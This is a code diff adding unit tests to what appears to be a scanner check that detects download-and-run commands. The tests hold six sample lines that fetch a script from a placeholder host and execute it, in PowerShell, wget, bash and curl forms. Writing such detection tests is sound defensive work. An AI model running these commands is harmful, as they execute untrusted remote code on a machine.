@@ -92,3 +92,14 @@ describe('download-and-run', () => {
     assert.equal((await runCheck(check, { 'README.md': 'x' })).result.status, 'not-applicable');
   });
 });
+
+describe('download-and-run: patterns tried only on lines with their words (issue 19)', () => {
+  it('still finds PowerShell forms in any case and each download word', () => {
+    assert.deepEqual(cmds('Invoke-Expression (New-Object Net.WebClient).DownloadString("https://x/i.ps1")'), ['Invoke-Expression (New-Object Net.WebClient).DownloadString("https://x/i.ps1")']);
+    assert.deepEqual(cmds('IEX (iwr https://x/i.ps1)'), ['IEX (iwr https://x/i.ps1)']);
+    assert.deepEqual(cmds('Invoke-WebRequest https://x/i.ps1 | INVOKE-EXPRESSION'), ['Invoke-WebRequest https://x/i.ps1 | INVOKE-EXPRESSION']);
+    assert.deepEqual(cmds('wget -qO- https://x/i.sh | sh'), ['wget -qO- https://x/i.sh | sh']);
+    assert.deepEqual(cmds('bash <(wget -qO- https://x/i.sh)'), ['bash <(wget -qO- https://x/i.sh)']);
+    assert.deepEqual(cmds('sh -c "$(curl -fsSL https://x/i.sh)"'), ['sh -c "$(curl -fsSL https://x/i.sh)"']);
+  });
+});
